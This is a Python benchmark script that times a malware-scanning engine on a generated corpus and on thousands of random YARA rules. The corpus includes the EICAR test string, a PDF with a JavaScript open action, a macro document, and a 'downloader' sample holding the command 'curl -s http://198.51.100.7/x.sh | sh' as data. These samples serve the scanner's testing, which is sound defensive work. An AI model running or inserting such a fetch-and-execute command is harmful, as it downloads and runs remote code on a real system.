"""Engine benchmark: files/s and MB/s of the analysis engine alone, one process per core.

Runs a seeded, generated mixed corpus (text, scripts, JSON, PDFs, PE and ELF binaries,
zips, tar.gz, a macro document, EICAR samples) through `worker.analysis.engine.analyze_file`
twice: with the default ruleset, and with a large generated ruleset (a few thousand rules)
next to it. Rules are compiled before the clock starts, as a Celery process does once.

    python -m bench.engine [--files 300] [--rules 3000] [--processes N] [--seed 7] [--tiny]
"""

from __future__ import annotations

import argparse
import io
import json
import multiprocessing
import os
import random
import shutil
import sys
import tarfile
import tempfile
import time
import zipfile
from pathlib import Path
from typing import Any

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
WORDS = ["invoice", "payment", "account", "update", "please", "open", "attached", "document",
         "report", "urgent", "delivery", "the", "http://example.com/a", "user@example.org",
         "10.0.0.1", "and", "for", "with", "powershell", "download"]  # fmt: skip


def words(rng: random.Random, size: int) -> bytes:
    out = []
    total = 0
    while total < size:
        word = rng.choice(WORDS)
        out.append(word)
        total += len(word) + 1
    return " ".join(out).encode()[:size]


def zip_of(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0)), data)
    return buffer.getvalue()


def tar_gz_of(members: dict[str, bytes]) -> bytes:
    import gzip

    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size, info.mtime = len(data), 1_700_000_000
            archive.addfile(info, io.BytesIO(data))
    return gzip.compress(buffer.getvalue(), mtime=0)


def pdf(rng: random.Random, javascript: bool) -> bytes:
    action = b" /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>" if javascript else b""
    body = words(rng, rng.randint(2_000, 60_000))
    return (
        b"%PDF-1.7\n1 0 obj << /Type /Catalog"
        + action
        + b" >> endobj\n2 0 obj ("
        + body
        + b") endobj\n%%EOF\n"
    )


def pe_launcher() -> bytes | None:
    try:
        import pip._vendor.distlib as distlib
    except ImportError:
        return None
    launchers = sorted(Path(distlib.__file__).parent.glob("*.exe"))
    return launchers[0].read_bytes() if launchers else None


def elf_binary() -> bytes | None:
    found = shutil.which("true") or shutil.which("ls")
    return Path(found).read_bytes() if found else None


def corpus(count: int, seed: int) -> list[tuple[str, bytes]]:
    """`count` files drawn (seeded) from a mix of kinds a mail or upload gateway sees."""
    from tests.support.samples import office_macro_document

    rng = random.Random(seed)
    pe, elf = pe_launcher(), elf_binary()
    kinds = {
        "text": lambda: (f"{rng.randrange(10**6)}.txt", words(rng, rng.randint(500, 200_000))),
        "script": lambda: (
            "run.sh",
            b"#!/bin/sh\n" + b"\n".join(b"echo " + words(rng, 60) for _ in range(40)),
        ),
        "downloader": lambda: ("get.sh", b"#!/bin/sh\ncurl -s http://198.51.100.7/x.sh | sh\n"),
        "json": lambda: (
            "data.json",
            json.dumps([{"id": i, "t": words(rng, 40).decode()} for i in range(300)]).encode(),
        ),
        "pdf": lambda: ("doc.pdf", pdf(rng, javascript=rng.random() < 0.2)),
        "binary": lambda: ("blob.bin", rng.randbytes(rng.randint(10_000, 500_000))),
        "zip": lambda: (
            "files.zip",
            zip_of({f"f{i}.txt": words(rng, 20_000) for i in range(rng.randint(2, 6))}),
        ),
        "targz": lambda: ("files.tar.gz", tar_gz_of({f"d/f{i}.txt": words(rng, 20_000) for i in range(4)})),
        "eicar_zip": lambda: ("eicar.zip", zip_of({"eicar.com": EICAR, "readme.txt": words(rng, 500)})),
        "macro_doc": lambda: ("invoice.doc", office_macro_document()),
    }
    if pe:
        kinds["pe"] = lambda: ("setup.exe", pe)
        kinds["pe_overlay"] = lambda: ("dropper.exe", pe + rng.randbytes(64 * 1024))
    if elf:
        kinds["elf"] = lambda: ("tool", elf)
    names = sorted(kinds)
    files = []
    for number in range(count):
        name, data = kinds[names[number % len(names)] if number < len(names) else rng.choice(names)]()
        files.append((f"{number:05d}-{name}", data))
    return files


def generated_ruleset(rule_count: int, seed: int, files: int = 10) -> dict[str, str]:
    """`rule_count` hunting-style rules with distinct string and hex atoms, in `files` files."""
    rng = random.Random(seed)
    sources: dict[str, list[str]] = {f"generated_{n:02d}.yar": [] for n in range(files)}
    for number in range(rule_count):
        text = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(12))
        hex_bytes = " ".join(f"{rng.randrange(256):02X}" for _ in range(8))
        rule = (
            f'rule generated_{number}\n{{\n    meta:\n        threat_name = "Generated.Test.R{number}"\n'
            f'        classification = "suspicious"\n        factor = 1\n'
            f'    strings:\n        $text = "{text}" nocase\n        $hex = {{ {hex_bytes} }}\n'
            f"    condition:\n        any of them\n}}\n"
        )
        sources[f"generated_{number % files:02d}.yar"].append(rule)
    return {name: "\n".join(rules) for name, rules in sources.items()}


_settings: Any = None


def worker_start(rules_dir: str, spool_root: str) -> None:
    """Per benchmark process: settings, and the rules compiled before any file is timed."""
    global _settings
    from common.settings import WorkerSettings
    from worker.analysis import ruleset

    spool = Path(tempfile.mkdtemp(prefix="spool-", dir=spool_root))
    _settings = WorkerSettings(
        spool_dir=spool, yara_rules_dir=Path(rules_dir), yara_check_interval_seconds=3600
    )
    ruleset.current_ruleset(Path(rules_dir), 3600)


def analyze_path(path: str) -> int:
    from worker.analysis.engine import Submission, analyze_file

    report = analyze_file(Submission(Path(path), Path(path).name, settings=_settings))
    return len(report)


def warm_up(_: int) -> bool:
    time.sleep(0.2)  # hold this process so every process runs one initializer before timing
    return True


def measure(paths: list[str], rules_dir: Path, processes: int, workdir: Path) -> dict[str, Any]:
    context = multiprocessing.get_context("fork")
    total_bytes = sum(os.path.getsize(path) for path in paths)
    with context.Pool(processes, initializer=worker_start, initargs=(str(rules_dir), str(workdir))) as pool:
        pool.map(warm_up, range(processes), chunksize=1)
        started = time.perf_counter()
        entries = sum(pool.imap_unordered(analyze_path, paths, chunksize=1))
        elapsed = time.perf_counter() - started
    return {
        "files": len(paths),
        "entries": entries,
        "bytes": total_bytes,
        "seconds": round(elapsed, 3),
        "files_per_second": round(len(paths) / elapsed, 1),
        "mb_per_second": round(total_bytes / elapsed / 1e6, 2),
    }


def run(files: int, rules: int, processes: int, seed: int) -> dict[str, Any]:
    from common.settings import DEFAULT_RULES_DIR
    from worker.analysis import ruleset

    with tempfile.TemporaryDirectory(prefix="scanhub-bench-") as temp:
        workdir = Path(temp)
        corpus_dir = workdir / "corpus"
        corpus_dir.mkdir()
        paths = []
        for name, data in corpus(files, seed):
            path = corpus_dir / name
            path.write_bytes(data)
            paths.append(str(path))
        large_dir = workdir / "rules-large"
        shutil.copytree(DEFAULT_RULES_DIR, large_dir)
        for name, text in generated_ruleset(rules, seed).items():
            (large_dir / name).write_text(text)
        results = {}
        for label, rules_dir in (("default", DEFAULT_RULES_DIR), ("large", large_dir)):
            compiled = ruleset.compile_ruleset(rules_dir)
            figures = measure(paths, rules_dir, processes, workdir)
            figures.update({"rules": compiled.rule_count, "processes": processes})
            results[label] = figures
        return results


def main(argv: list[str] | None = None) -> dict[str, Any]:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--files", type=int, default=300)
    parser.add_argument("--rules", type=int, default=3000)
    parser.add_argument("--processes", type=int, default=os.cpu_count() or 1)
    parser.add_argument("--seed", type=int, default=7)
    parser.add_argument("--tiny", action="store_true", help="a few files and rules: checks the bench runs")
    options = parser.parse_args(argv)
    if options.tiny:
        options.files, options.rules, options.processes = 14, 40, 1
    results = run(options.files, options.rules, options.processes, options.seed)
    for label, figures in results.items():
        print(
            f"engine, {label} ruleset ({figures['rules']} rules): "
            f"{figures['files_per_second']} files/s, {figures['mb_per_second']} MB/s "
            f"({figures['files']} files -> {figures['entries']} report entries, "
            f"{figures['bytes'] / 1e6:.1f} MB, {figures['processes']} processes, {figures['seconds']} s)"
        )
    return results


if __name__ == "__main__":
    sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
    main()
